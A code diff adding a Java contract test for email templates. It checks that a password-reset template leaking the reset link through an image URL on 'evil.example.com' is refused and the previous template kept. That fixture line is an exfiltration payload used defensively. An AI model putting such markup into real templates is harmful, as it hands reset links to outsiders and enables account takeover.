@@ -135,6 +135,25 @@ abstract class EmailTemplatesContract extends Contract {
         }
     }
 
+    @Needs({GET_EMAIL_TEMPLATE, SET_EMAIL_TEMPLATE})
+    void aBodyThatGivesTheLinkToOthersIsInvalidAndNotKept() {
+        EmailTemplateType type = EmailTemplateType.PASSWORD_RESET;
+        EmailTemplate before = emailTemplates.set(
+                type,
+                new NewEmailTemplate("Kept", "<p>Here: <a href=\"" + link(type) + "\">" + link(type) + "</a></p>"));
+
+        refuses(
+                InvalidArgumentException.class,
+                () -> emailTemplates.set(
+                        type,
+                        new NewEmailTemplate(
+                                "Telling",
+                                "<p>" + link(type) + "</p><img src=\"https://evil.example.com/?" + link(type)
+                                        + "\">")));
+
+        assertThat(emailTemplates.get(type)).isEqualTo(before);
+    }
+
     private EmailVariable required(EmailTemplateType type) {
         return emailTemplates.get(type).variables().stream()
                 .filter(EmailVariable::required)
